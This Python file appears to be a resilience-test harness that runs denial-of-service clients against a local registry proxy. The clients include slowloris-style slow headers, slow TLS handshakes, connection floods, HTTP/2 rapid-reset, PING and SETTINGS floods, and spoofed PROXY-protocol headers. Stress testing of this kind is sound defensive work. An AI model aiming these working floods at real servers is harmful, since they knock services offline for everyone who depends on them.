#!/usr/bin/env python3
"""One kind of hostile client, until SIGTERM: `attack.py KIND PLAIN TLS BALANCED LAYER`, three ports of the proxy and the path of
a layer. It prints a line when it is under way, and at its end one of JSON: how much it has done. hostile.py starts it.

Of the listener at BALANCED, the proxy trusts 127.0.0.2 to tell whose connections it passes on, and nobody else.
"""

import asyncio
import itertools
import json
import os
import random
import resource
import signal
import socket
import ssl
import sys
import time

ATTACKS = {}
# Of a paced attack: more would measure this program.
MOST_AT_ONCE = 500
PATH = "/v2/library/busybox/manifests/latest"
REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: localhost\r\nAccept: application/vnd.oci.image.index.v1+json, */*\r\n\r\n".encode()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# RFC 9113 section 6.
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_STREAM_AND_HEADERS = 5
# Frames in one write; of requests that are reset, fewer than the 20 at which the library in the proxy ends the connection.
BATCH = 16
# What the proxy keeps, so that a request is one of its flights; `accept` is field 19 of HPACK's static table.
ACCEPT = b"application/vnd.oci.image.index.v1+json"


def attack(what, rate=None, held=None):
    """So many a second, or so many connections at once that are opened again when they end."""
    def add(function):
        ATTACKS[function.__name__] = (what, rate, held, function)
        return function
    return add


class Target:
    def __init__(self, plain, tls, balanced, layer):
        self.plain, self.tls, self.balanced, self.layer = int(plain), int(tls), int(balanced), layer
        self.done = 0
        self.opened = 0
        self.numbers = itertools.count()
        context = ssl.create_default_context()
        hello = ssl.MemoryBIO()
        try:
            context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="example.azurecr.io").do_handshake()
        except ssl.SSLWantReadError:
            self.hello = hello.read()

    async def open(self, port, source="127.0.0.1", receive=None):
        stream = socket.socket()
        stream.setblocking(False)
        if receive:
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        if source != "127.0.0.1":
            stream.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(stream, ("127.0.0.1", port))
        self.opened += 1
        return await asyncio.open_connection(sock=stream, limit=receive or 65536)


async def drip(target, port, content):
    """A byte a second, until the connection is ended; each connection at a moment of its own, as clients that know nothing of
    each other."""
    reader, writer = await target.open(port)
    ended = asyncio.create_task(reader.read())
    await asyncio.wait([ended], timeout=random.random())
    for byte in content:
        if ended.done():
            break
        writer.write(bytes([byte]))
        target.done += 1
        await asyncio.wait([ended], timeout=1)
    ended.cancel()
    writer.close()


async def send(target, port, content, source="127.0.0.1"):
    """Something that is refused, until it is."""
    reader, writer = await target.open(port, source)
    target.done += 1
    writer.write(content)
    await reader.read()
    writer.close()


@attack("2,000 connections send a header of a byte a second", held=2000)
async def slow_headers(target):
    await drip(target, target.plain, b"GET /v2/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 1000)


@attack("1,000 connections send a TLS hello of a byte a second", held=1000)
async def slow_handshakes(target):
    await drip(target, target.tls, target.hello)


@attack("100 connections read a layer of 16 MiB, 200 bytes a second", held=100)
async def slow_readers(target):
    reader, writer = await target.open(target.plain, receive=2048)
    writer.write(f"GET {target.layer} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    await asyncio.sleep(random.random())
    while part := await reader.read(200):
        target.done += len(part)
        await asyncio.sleep(1)
    writer.close()


@attack("10,000 connections say nothing after a request", held=10000)
async def idle(target):
    reader, writer = await target.open(target.plain)
    writer.write(REQUEST)
    target.done += 1
    await reader.read()
    writer.close()


@attack("1,000 connections a second that say nothing and end", rate=1000)
async def connections(target):
    reader, writer = await target.open(target.plain)
    target.done += 1
    writer.close()


@attack("100 headers of 80 KiB a second", rate=100)
async def large_headers(target):
    await send(target, target.plain, b"GET /v2/ HTTP/1.1\r\nHost: localhost\r\nX-Large: " + b"x" * (80 << 10) + b"\r\n\r\n")


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(path):
    """RFC 7541: `:method GET` and `:scheme http` of the static table, `:path` and `:authority` by name of it."""
    text = lambda value: bytes([len(value)]) + value.encode()
    return b"\x82\x86" + b"\x04" + text(path) + b"\x01" + text("localhost") + b"\x0f\x04" + bytes([len(ACCEPT)]) + ACCEPT


async def frames(target, batches, rate):
    """So many frames a second over HTTP/2 on one connection, until it is ended. On every other one no answer is read."""
    reader, writer = await target.open(target.plain)
    writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
    reading = asyncio.create_task(reader.read()) if next(target.numbers) % 2 else None
    due = time.monotonic()
    try:
        for batch in batches:
            writer.write(batch)
            # The server has stopped reading, or the connection.
            async with asyncio.timeout(5):
                await writer.drain()
            target.done += BATCH
            due += BATCH / rate
            await asyncio.sleep(max(0, due - time.monotonic()))
            if reading and reading.done() or writer.transport.is_closing():
                break
    finally:
        if reading:
            reading.cancel()
        writer.close()


@attack("4 connections of HTTP/2 begin and reset 500 requests a second each, each for another tag", held=4)
async def rapid_reset(target):
    def batches():
        for begin in itertools.count(step=BATCH):
            streams = [2 * number + 1 for number in range(begin, begin + BATCH)]
            yield b"".join(
                frame(HEADERS, END_STREAM_AND_HEADERS, stream, headers(f"/v2/library/busybox/manifests/{os.urandom(6).hex()}"))
                + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")) for stream in streams)

    await frames(target, batches(), 500)


@attack("4 connections of HTTP/2 send 1,000 PING a second each", held=4)
async def pings(target):
    await frames(target, itertools.repeat(frame(PING, 0, 0, b"12345678") * BATCH), 1000)


@attack("4 connections of HTTP/2 send 1,000 SETTINGS a second each", held=4)
async def settings(target):
    await frames(target, itertools.repeat(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * BATCH), 1000)


@attack("300 headers of the PROXY protocol a second by a client that is not trusted", rate=300)
async def spoofed_proxy_headers(target):
    await send(target, target.balanced, b"PROXY TCP4 10.0.0.1 10.0.0.2 1000 80\r\n" + REQUEST)


@attack("1,000 connections of a trusted balancer with half a header of the PROXY protocol", held=1000)
async def truncated_proxy_headers(target):
    await send(target, target.balanced, b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0", "127.0.0.2")


@attack("300 connections a second send what is no TLS, or begins like it", rate=300)
async def tls_garbage(target):
    begin = b"\x16\x03\x01\x02\x00" if next(target.numbers) % 2 else b""
    await send(target, target.tls, begin + os.urandom(600))


async def again(target, function):
    while True:
        try:
            await function(target)
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            pass
        # Where connections are ended at once, it has still to be a rate.
        await asyncio.sleep(0.05)


async def once(target, function, place):
    async with place:
        try:
            async with asyncio.timeout(5):
                await function(target)
        except (OSError, TimeoutError):
            pass


async def paced(target, function, rate):
    place, tasks, due = asyncio.Semaphore(MOST_AT_ONCE), set(), time.monotonic()
    while True:
        due += 1 / rate
        await asyncio.sleep(max(0, due - time.monotonic()))
        task = asyncio.create_task(once(target, function, place))
        tasks.add(task)
        task.add_done_callback(tasks.discard)


async def main(kind, *where):
    _, rate, held, function = ATTACKS[kind]
    target = Target(*where)
    stopped = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stopped.set)
    if rate:
        tasks = [asyncio.create_task(paced(target, function, rate))]
    else:
        tasks = []
        for _ in range(held):
            tasks.append(asyncio.create_task(again(target, function)))
            # As fast as the proxy accepts them.
            if len(tasks) % 50 == 0:
                await asyncio.sleep(0.02)
        while target.opened < held:
            await asyncio.sleep(0.05)
    print("ready", flush=True)
    begun, done, opened = time.monotonic(), target.done, target.opened
    await stopped.wait()
    seconds = time.monotonic() - begun
    print(json.dumps({"seconds": seconds, "done_a_second": (target.done - done) / seconds,
                      "opened_a_second": (target.opened - opened) / seconds}), flush=True)
    # All connections end with the process.
    os._exit(0)


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(*sys.argv[1:]))
